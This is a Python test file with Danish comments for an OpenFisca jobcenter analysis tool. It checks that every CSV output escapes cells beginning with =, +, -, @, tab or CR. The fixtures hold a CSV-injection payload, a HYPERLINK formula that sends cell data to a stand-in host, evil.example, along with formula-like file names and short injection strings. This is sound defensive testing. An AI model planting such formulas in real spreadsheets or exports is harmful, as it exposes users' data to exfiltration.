"""CSV-injektion (issue 22, OWASP "CSV Injection"): reformens `navn` og befolkningsfilens navn
står i hver række af resultaternes CSV-filer. En celle, der begynder med = + - @ tabulator eller
CR, er en formel i Excel og LibreOffice; den skal stå som tekst (apostrof foran)."""

import csv
import shutil
from pathlib import Path

from openfisca_dk_jobcenter.analyse import cli
from openfisca_dk_jobcenter.analyse.skriv import som_tekst_i_regneark

EKSEMPLER = Path(__file__).resolve().parents[2] / "examples" / "befolkning"
FORMEL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def er_tal(tekst):
    try:
        float(tekst)
    except ValueError:
        return False
    return True


def test_ingen_celle_i_nogen_csv_er_en_formel(tmp_path, monkeypatch):
    (tmp_path / "ond.yaml").write_text(
        f"navn: '{FORMEL}'\nbeskrivelse: test\nparametre:\n  voksenlaerling.timesats.fra_ledighed:\n    2025-01-01: 60\n",
        encoding="utf-8",
    )
    shutil.copy(EKSEMPLER / "personer.csv", tmp_path / "=cmd.csv")
    shutil.copy(EKSEMPLER / "virksomheder.csv", tmp_path / "@v.csv")
    monkeypatch.chdir(tmp_path)  # filens navn, som brugeren skrev det, står i kolonnen `befolkning`
    ud = tmp_path / "ud"
    assert cli.main([
        "sammenlign", "--reform", "ond.yaml", "--aar", "2025-2026",
        "--personer-fil", "=cmd.csv", "--virksomheder-fil", "@v.csv", "--ud", str(ud),
    ]) == 0
    filer = sorted(p.name for p in ud.glob("*.csv"))
    assert {"sammenligning.csv", "detaljer.csv", "pr_sektor.csv", "pr_maalgruppe.csv", "virksomheder.csv",
            "forbehold.csv", "aarsserie.csv"} <= set(filer)
    set_formlen = set()
    for navn in filer:
        with open(ud / navn, newline="", encoding="utf-8") as f:
            for raekke in csv.reader(f):
                for celle in raekke:
                    assert not (celle[:1] in ("=", "+", "-", "@", "\t", "\r") and not er_tal(celle)), (navn, celle)
                    if celle == "'" + FORMEL:
                        set_formlen.add(navn)
    # reformens navn står (som tekst) i alle tabeller med en reformkolonne
    assert set_formlen == set(filer) - {"forbehold.csv"}
    with open(ud / "sammenligning.csv", newline="", encoding="utf-8") as f:
        assert {r["befolkning"] for r in csv.DictReader(f)} == {"'=cmd.csv"}


def test_tal_og_almindelig_tekst_roeres_ikke():
    assert som_tekst_i_regneark(-5.0) == -5.0
    assert som_tekst_i_regneark("Voksenlærling") == "Voksenlærling"
    for ond in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert som_tekst_i_regneark(ond) == "'" + ond
